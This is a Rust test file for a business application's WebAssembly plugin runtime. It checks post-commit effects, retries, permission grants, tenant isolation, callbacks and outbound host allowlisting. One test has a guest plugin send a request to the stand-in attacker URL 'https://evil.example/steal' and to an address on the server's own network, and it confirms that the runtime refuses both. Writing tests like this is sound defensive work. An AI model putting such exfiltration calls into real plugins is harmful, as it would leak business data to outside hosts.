//! Effects after the commit: as their caller, with what was granted, tried again, given up in sight of the administrator.

use std::io::{Read, Write};
use std::net::TcpListener;

use kernel_testkit::{Backend, Business, Client};
use kernel_types::{Date, Role, Scope};
use serde_json::{Value as Json, json};

use super::guests::{PARAMS, component};
use super::{CUSTOMERS, Plugged, both};

/// Answers its event.
pub(super) fn echo() -> Vec<u8> {
    component(
        "effect",
        &format!("(func (export \"handle\") {PARAMS} (result i32) (call $ok (local.get 14) (local.get 15)))"),
    )
}

/// Creates a customer called "Echo" and answers its event.
fn creates(more: &str) -> Vec<u8> {
    component(
        "effect",
        &format!(
            "(import \"baobab:plugin/records@1.0.0\" \"create\" (func $create (param i32 i32 i32 i32 i32)))
             (data (i32.const 2048) \"parties.customer{{\\22name\\22:\\22Echo\\22}}\")
             (func (export \"handle\") {PARAMS} (result i32)
               (call $create (i32.const 2048) (i32.const 16) (i32.const 2064) (i32.const 15) (i32.const 128))
               {more}
               (call $ok (local.get 14) (local.get 15)))"
        ),
    )
}

/// Sends to `url`, then answers its event.
fn sends(url: &str) -> Vec<u8> {
    component(
        "effect",
        &format!(
            "(import \"baobab:plugin/http@1.0.0\" \"send\" (func $send (param i32 i32 i32 i32 i32 i32 i32 i32 i32)))
             (data (i32.const 2048) \"GET{url}\")
             (func (export \"handle\") {PARAMS} (result i32)
               (call $send (i32.const 2048) (i32.const 3) (i32.const 2051) (i32.const {length}) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 128))
               (call $ok (local.get 14) (local.get 15)))",
            length = url.len()
        ),
    )
}

/// `hook` is the declaration of the one hook, `asks` what stands under asks.
fn manifest(hook: &str, asks: &str) -> String {
    format!(
        "plugin: after\nversion: 1.0.0\ntitle: Afterwards\ndescription: Does something afterwards.\npublisher: Example Partners\nworld: \"1.0.0\"\n\
         components: {{effect: effect.wasm}}\nhooks:\n  follow: {{{hook}, title: Does something afterwards}}\nasks:\n  {asks}\n"
    )
}

const AFTER_SAVE: &str = "on: after-save, entity: parties.customer";
const RECORDS: &str = "records: {parties.customer: {uses: [read, create], why: make another customer for the test}}";

async fn with(plugged: &Plugged, hook: &str, asks: &str, guest: Vec<u8>, granted: Json) {
    plugged.ship(&manifest(hook, asks), &[("effect.wasm", guest)]).await;
    plugged.install("after", &json!({"version": "1.0.0", "granted": granted})).await.expect(200);
}

async fn names(client: &Client) -> Vec<String> {
    let list = client.get(&format!("{CUSTOMERS}?sort=name")).await.expect(200);
    list["data"].as_array().into_iter().flatten().filter_map(|row| row["name"].as_str().map(str::to_string)).collect()
}

async fn runs(plugged: &Plugged, state: &str) -> Vec<Json> {
    let runs = plugged.shown("after").await["runs"].as_array().cloned().unwrap_or_default();
    runs.into_iter().filter(|run| run["state"] == state).collect()
}

async fn an_effect_runs_after_the_commit_once_and_is_not_set_off_by_itself(backend: Backend) {
    let plugged = Plugged::new(backend).await;
    with(&plugged, AFTER_SAVE, RECORDS, creates(""), json!({"records": {"parties.customer": ["create"]}})).await;
    plugged.customer("Ama").await.expect(201);
    assert_eq!(names(&plugged.owner).await, ["Ama"], "not inside the request");
    assert_eq!(plugged.runtime.drain().await.expect("runs"), 1);
    assert_eq!(names(&plugged.owner).await, ["Ama", "Echo"]);
    assert_eq!(plugged.runtime.drain().await.expect("runs"), 0, "what it made sets it off no more");
    let done = runs(&plugged, "done").await;
    assert_eq!((done.len(), &done[0]["event"], &done[0]["attempts"]), (1, &json!("created"), &json!(1)));
    // What was refused by a rule of the product leaves nothing to do.
    assert_eq!(plugged.owner.post(CUSTOMERS, &json!({"name": 7})).await.status, 422);
    assert_eq!(plugged.runtime.drain().await.expect("runs"), 0);
}

/// It creates, then fails: the next attempts find what the first one made.
async fn what_is_tried_again_makes_nothing_twice_and_is_given_up_in_sight(backend: Backend) {
    let plugged = Plugged::new(backend).await;
    with(&plugged, AFTER_SAVE, RECORDS, creates("(unreachable)"), json!({"records": {"parties.customer": ["create"]}}))
        .await;
    plugged.customer("Ama").await.expect(201);
    for _ in 0..60 {
        plugged.runtime.drain().await.expect("runs");
        plugged.app.clock.set(plugged.app.app.clock.now().plus_seconds(3_700));
    }
    let owner = plugged.app.owner().await;
    assert_eq!(names(&owner).await, ["Ama", "Echo"]);
    let shown = owner.get("/v1/plugins/after").await.expect(200)["data"].clone();
    assert_eq!((&shown["givenUp"], &shown["waiting"]), (&json!(1), &json!(0)), "{shown}");
    let dead = &shown["runs"][0];
    assert!(
        dead["state"] == "dead" && dead["error"].as_str().is_some_and(|error| error.contains("stopped with")),
        "{dead}"
    );
    owner
        .post(&format!("/v1/plugins/after/runs/{}/again", dead["id"].as_str().expect("id")), &json!({}))
        .await
        .expect(204);
    assert_eq!(owner.get("/v1/plugins/after").await.expect(200)["data"]["waiting"], 1);
}

async fn an_effect_reaches_what_was_granted_and_what_its_caller_may(backend: Backend) {
    let plugged = Plugged::new(backend).await;
    with(&plugged, AFTER_SAVE, RECORDS, creates(""), json!({})).await;
    plugged.customer("Ama").await.expect(201);
    plugged.runtime.drain().await.expect("runs");
    assert_eq!(names(&plugged.owner).await, ["Ama"]);
    let shown = plugged.shown("after").await;
    assert_eq!(
        (&shown["notes"][0]["kind"], &shown["notes"][0]["message"]),
        (&json!("refused"), &json!("records.create parties.customer"))
    );

    // The rights of the person who caused it, as they are when it runs.
    plugged
        .install("after", &json!({"version": "1.0.0", "granted": {"records": {"parties.customer": ["create"]}}}))
        .await
        .expect(200);
    let person = plugged.app.person(Role::Operator, Scope::All).await;
    let clerk = plugged.app.sign_in(&person).await;
    clerk.post(CUSTOMERS, &json!({"name": "Bola"})).await.expect(201);
    plugged.owner.delete(&format!("/v1/access/people/{}/families/accounting", person.id)).await.expect(200);
    plugged.runtime.drain().await.expect("runs");
    assert_eq!(names(&plugged.owner).await, ["Ama", "Bola"], "the caller may create nothing any more");
}

async fn records_of_another_business_do_not_exist_for_it(backend: Backend) {
    let plugged = Plugged::new(backend).await;
    let other: Business = plugged.app.another_business("Other Trading").await;
    let stranger = plugged.app.sign_in(&other.owner).await;
    let theirs = stranger.post(CUSTOMERS, &json!({"name": "Theirs"})).await.expect(201);
    let id = theirs["data"]["id"].as_str().expect("id").to_string();
    // Reads the other business's record; answers the first byte of the result: 0 found, 1 not.
    let guest = component(
        "effect",
        &format!(
            "(import \"baobab:plugin/records@1.0.0\" \"read\" (func $read (param i32 i32 i32 i32 i32)))
             (data (i32.const 2048) \"parties.customer{id}\")
             (func (export \"handle\") {PARAMS} (result i32)
               (call $read (i32.const 2048) (i32.const 16) (i32.const 2064) (i32.const {length}) (i32.const 128))
               (i32.store8 (i32.const 512) (i32.add (i32.const 48) (i32.load8_u (i32.const 128))))
               (call $ok (i32.const 512) (i32.const 1)))",
            length = id.len()
        ),
    );
    with(&plugged, "on: action", RECORDS, guest, json!({"records": {"parties.customer": ["read"]}})).await;
    let answer = plugged.owner.post("/v1/plugins/after/actions/follow", &json!({})).await.expect(200);
    assert_eq!(answer["data"], 1, "missing, as if it never was");
}

async fn only_granted_hosts_are_asked_and_only_outside(backend: Backend) {
    // Takes connections, counts them and never answers.
    let silent = TcpListener::bind("127.0.0.1:0").expect("a port");
    let origin = format!("http://127.0.0.1:{}", silent.local_addr().expect("an address").port());
    let inside = format!("https://127.0.0.1:{}", silent.local_addr().expect("an address").port());
    let plugged = Plugged::reaching(backend, std::slice::from_ref(&origin)).await;
    let asks = format!("hosts: {{\"{origin}\": {{why: hand the receipts of the day in}}}}");
    with(&plugged, "on: action", &asks, sends("https://evil.example/steal"), json!({"hosts": [&origin]})).await;
    plugged.owner.post("/v1/plugins/after/actions/follow", &json!({})).await.expect(200);
    assert_eq!(plugged.shown("after").await["notes"][0]["message"], "http https://evil.example/steal");

    // Granted, and slow: it costs its patience and no more.
    let next = |version: &str, url: &str, hosts: &str| {
        (
            manifest("on: action", hosts).replace("version: 1.0.0", &format!("version: {version}")),
            vec![("effect.wasm", sends(url))],
        )
    };
    let (slow, guest) = next("1.1.0", &format!("{origin}/receipt"), &asks);
    plugged.ship(&slow, &guest).await;
    plugged.install("after", &json!({"version": "1.1.0", "granted": {"hosts": [&origin]}})).await.expect(200);
    let started = std::time::Instant::now();
    plugged.owner.post("/v1/plugins/after/actions/follow", &json!({})).await.expect(200);
    assert!(started.elapsed() >= std::time::Duration::from_millis(300));
    let (mut connection, _) = silent.accept().expect("it was asked");
    let mut request = [0; 64];
    let read = connection.read(&mut request).expect("the request");
    assert!(String::from_utf8_lossy(&request[..read]).starts_with("GET /receipt HTTP/1.1"));
    let _ = connection.write_all(b"HTTP/1.1 204 No Content\r\n\r\n");

    // Granted by the administrator, and an address of the server's own network: refused by the host, in sight.
    let hosts = format!("hosts: {{\"{inside}\": {{why: hand the receipts of the day in}}}}");
    let (inner, guest) = next("1.2.0", &format!("{inside}/secret"), &hosts);
    plugged.ship(&inner, &guest).await;
    plugged.install("after", &json!({"version": "1.2.0", "granted": {"hosts": [&inside]}})).await.expect(200);
    plugged.owner.post("/v1/plugins/after/actions/follow", &json!({})).await.expect(200);
    // The clock stands still, so that lines of one moment have no order.
    let notes = plugged.shown("after").await["notes"].to_string();
    assert!(notes.contains("the server's own network"), "{notes}");
}

/// What an effect writes is checked as what people write, by its own plugin's checks too: they reach nothing and set nothing off.
async fn what_an_effect_writes_is_checked_by_its_own_plugin(backend: Backend) {
    let plugged = Plugged::new(backend).await;
    let both = |version: &str| {
        format!(
            "{}  check-customer: {{on: before-save, title: Checks the customer, entity: parties.customer, reads: [name]}}\n",
            manifest(AFTER_SAVE, "").replace("asks:\n  \n", "").replace("version: 1.0.0", &format!("version: {version}"))
        )
        .replace("components: {effect: effect.wasm}", "components: {effect: effect.wasm, validate: check.wasm}")
            + &format!("asks:\n  {RECORDS}\n")
    };
    let granted = json!({"records": {"parties.customer": ["create"]}});
    plugged.ship(&both("1.0.0"), &[("effect.wasm", creates("")), ("check.wasm", super::consents())]).await;
    plugged.install("after", &json!({"version": "1.0.0", "granted": granted})).await.expect(200);
    plugged.customer("Ama").await.expect(201);
    plugged.runtime.drain().await.expect("runs");
    assert_eq!(names(&plugged.owner).await, ["Ama", "Echo"], "its own check consents");
    assert_eq!(
        plugged.shown("after").await["usage"]["hooks"]
            .as_array()
            .expect("hooks")
            .iter()
            .map(|hook| hook["calls"].clone())
            .collect::<Vec<_>>(),
        [json!(2), json!(1)]
    );
    assert!(plugged.noted("after", "fault").await.is_empty());

    // Its subject, with the name "Echo", is longer than what this check allows; that of "Bo" is not.
    let allowed = json!({"before": null, "entity": "parties.customer", "record": {"name": "Bo"}}).to_string().len();
    plugged
        .ship(
            &both("1.1.0"),
            &[
                ("effect.wasm", creates("")),
                ("check.wasm", super::refuses_longer_than(u32::try_from(allowed).expect("small"))),
            ],
        )
        .await;
    plugged.install("after", &json!({"version": "1.1.0", "granted": granted})).await.expect(200);
    plugged.customer("Bo").await.expect(201);
    plugged.runtime.drain().await.expect("runs");
    assert_eq!(names(&plugged.owner).await, ["Ama", "Bo", "Echo"], "its own check refuses a second Echo");
}

/// An action that says no in words works as it should: told to the person who asked, noted, and nothing is switched off.
async fn a_refusal_in_words_is_no_fault(backend: Backend) {
    let plugged = Plugged::new(backend).await;
    let declines = component(
        "effect",
        &format!(
            "(data (i32.const 2048) \"Nothing to send.\") (func (export \"handle\") {PARAMS} (result i32) (i32.store (i32.const 64) (i32.const 1)) (i32.store (i32.const 68) (i32.const 2048)) (i32.store (i32.const 72) (i32.const 16)) (i32.const 64))"
        ),
    );
    with(&plugged, "on: action", RECORDS, declines, json!({})).await;
    for _ in 0..6 {
        let refused = plugged.owner.post("/v1/plugins/after/actions/follow", &json!({})).await;
        assert_eq!((refused.status, &refused.json()["code"]), (422, &json!("plugin_refused")), "{}", refused.text());
        assert!(refused.text().contains("The plugin could not do this: Nothing to send.\""), "{}", refused.text());
    }
    let shown = plugged.shown("after").await;
    assert_eq!((&shown["usage"]["faults"], &shown["installed"]["resting"]), (&json!(0), &json!([])), "{shown}");
    assert_eq!(
        (plugged.noted("after", "declined").await, plugged.noted("after", "fault").await),
        (vec!["failed".to_string()], vec![])
    );
}

/// What an action of a record asks for is offered with it.
async fn an_action_of_a_record_says_what_it_asks_for(backend: Backend) {
    let plugged = Plugged::new(backend).await;
    let input = "input: {type: object, properties: {reason: {type: string, title: Reason}}, required: [reason]}";
    with(
        &plugged,
        &format!("on: action, entity: parties.customer, {input}"),
        RECORDS,
        echo(),
        json!({"records": {"parties.customer": ["read"]}}),
    )
    .await;
    let ama = plugged.customer("Ama").await.expect(201);
    let id = ama["data"]["id"].as_str().expect("id");
    let offered = plugged.owner.get(&format!("{CUSTOMERS}/{id}")).await.expect(200)["meta"]["plugins"][0].clone();
    assert_eq!((&offered["name"], &offered["input"]["required"]), (&json!("follow"), &json!(["reason"])), "{offered}");
    let path = "/v1/plugins/after/actions/follow";
    let refused = plugged.owner.post(path, &json!({"record": id, "input": {}})).await;
    assert_eq!(refused.status, 422, "{}", refused.text());
    let answer = plugged.owner.post(path, &json!({"record": id, "input": {"reason": "Moved"}})).await.expect(200);
    assert_eq!(answer["data"]["input"], json!({"reason": "Moved"}));
}

async fn a_job_runs_once_for_each_day_it_is_due(backend: Backend) {
    let plugged = Plugged::new(backend).await;
    with(&plugged, "on: job, every: day", RECORDS, creates(""), json!({"records": {"parties.customer": ["create"]}}))
        .await;
    assert_eq!(plugged.runtime.drain().await.expect("runs"), 0, "a new job does not make up for the past");
    for day in [6, 6, 7] {
        plugged.app.set_today(Date::from_ymd_opt(2026, 3, day).expect("a date"));
        plugged.runtime.drain().await.expect("runs");
    }
    let owner = plugged.app.owner().await;
    assert_eq!(names(&owner).await, ["Echo", "Echo"]);
}

/// What other systems report comes to an address made for one hook of one business: kept, answered, handled afterwards.
async fn another_system_reports_to_the_address_it_was_told(backend: Backend) {
    let plugged = Plugged::new(backend).await;
    with(&plugged, "on: callback", RECORDS, echo(), json!({})).await;
    let address = plugged.shown("after").await["hooks"][0]["address"].as_str().expect("an address").to_string();
    let path = address.find("/v1/public/").and_then(|start| address.get(start..)).expect("a path").to_string();
    let provider = plugged.app.anonymous();
    let said = json!({"id": "p-1", "status": "delivered"});
    assert_eq!(provider.post(&format!("{path}?from=provider"), &said).await.status, 204);
    assert_eq!(plugged.runtime.drain().await.expect("runs"), 1);
    assert_eq!(runs(&plugged, "done").await[0]["event"], "callback");
    // A guess, another hook and another business open nothing, and nothing is kept of them.
    let business = plugged.app.business.id.to_string();
    let other = plugged.app.another_business("Other Trading").await.id.to_string();
    for wrong in [
        path.replace("/follow/", "/other/"),
        path.replace(&business, &other),
        format!("{}x", path.trim_end_matches(|end: char| end.is_alphanumeric())),
        format!("/v1/public/callbacks/after/follow/{business}"),
        "/v1/public/callbacks/after/follow/x".into(),
    ] {
        assert_eq!(provider.post(&wrong, &said).await.status, 404, "{wrong}");
    }
    let large = provider.post(&path, &json!({"text": "x".repeat(70_000)})).await;
    assert_eq!(large.status, 413);
    // Switched off, it hears nothing.
    plugged.install("after", &json!({"version": "1.0.0", "on": false})).await.expect(200);
    assert_eq!(plugged.shown("after").await["hooks"][0]["address"], Json::Null);
    assert_eq!(provider.post(&path, &said).await.status, 404);
    assert_eq!(plugged.runtime.drain().await.expect("runs"), 0);
}

/// The host that a setting names is reached once that is granted, and no other.
async fn a_setting_names_the_host(backend: Backend) {
    let silent = TcpListener::bind("127.0.0.1:0").expect("a port");
    let origin = format!("http://127.0.0.1:{}", silent.local_addr().expect("an address").port());
    let plugged = Plugged::reaching(backend, std::slice::from_ref(&origin)).await;
    let asks = "hosts: {\"settings.url\": {why: hand messages over}}\nsettings:\n  type: object\n  properties:\n    url: {type: string, title: Address}";
    plugged.ship(&manifest("on: action", asks), &[("effect.wasm", sends(&format!("{origin}/send")))]).await;
    let install = |url: String| {
        let plugged = &plugged;
        async move {
            let wanted = json!({"version": "1.0.0", "granted": {"hosts": ["settings.url"]}, "settings": {"url": url}});
            plugged.install("after", &wanted).await.expect(200);
            plugged.owner.post("/v1/plugins/after/actions/follow", &json!({})).await.expect(200);
        }
    };
    install("https://elsewhere.example/v1".into()).await;
    assert_eq!(plugged.shown("after").await["notes"][0]["message"], format!("http {origin}/send"));
    install(format!("{origin}/v1/messages")).await;
    let (mut connection, _) = silent.accept().expect("it was asked");
    let mut request = [0; 64];
    let read = connection.read(&mut request).expect("the request");
    assert!(String::from_utf8_lossy(&request[..read]).starts_with("GET /send HTTP/1.1"));
}

both!(
    an_effect_runs_after_the_commit_once_and_is_not_set_off_by_itself,
    what_is_tried_again_makes_nothing_twice_and_is_given_up_in_sight,
    an_effect_reaches_what_was_granted_and_what_its_caller_may,
    records_of_another_business_do_not_exist_for_it,
    only_granted_hosts_are_asked_and_only_outside,
    what_an_effect_writes_is_checked_by_its_own_plugin,
    a_refusal_in_words_is_no_fault,
    an_action_of_a_record_says_what_it_asks_for,
    a_job_runs_once_for_each_day_it_is_due,
    another_system_reports_to_the_address_it_was_told,
    a_setting_names_the_host,
);
